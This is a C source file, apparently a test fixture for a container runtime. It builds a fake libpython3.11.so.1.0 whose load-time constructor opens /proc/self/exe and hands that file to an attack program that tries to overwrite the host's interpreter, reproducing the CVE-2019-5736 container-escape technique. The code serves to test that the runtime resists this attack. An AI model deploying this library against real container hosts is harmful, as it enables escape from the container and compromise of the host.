/* A hostile libpython3.11.so.1.0 in the container's root, where the interpreter's RUNPATH
 * looks: what CVE-2019-5736's exploit did with runc's libseccomp. When a `#!/proc/self/exe`
 * script makes the kernel re-execute the runtime's own interpreter inside the container, the
 * dynamic loader loads this, and its constructor holds that interpreter's file open and hands
 * it to the attack program (attack.c), which keeps trying to write through it.
 * ATTACK_ARGS: "SECONDS LOG MARKER [bg]", compiled in by tests/support/exe_attack.py. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>

__attribute__((constructor)) static void attack(void)
{
	int fd = open("/proc/self/exe", O_RDONLY); /* inherited by the attack program */
	char num[16];
	snprintf(num, sizeof num, "%d", fd);
	execl("/attack", "attack", "write", num, ATTACK_ARGS, (char *)NULL);
	_exit(120);
}

/* What the interpreter's main() calls; never reached. */
int Py_BytesMain(int argc, char **argv)
{
	(void)argc;
	(void)argv;
	return 121;
}
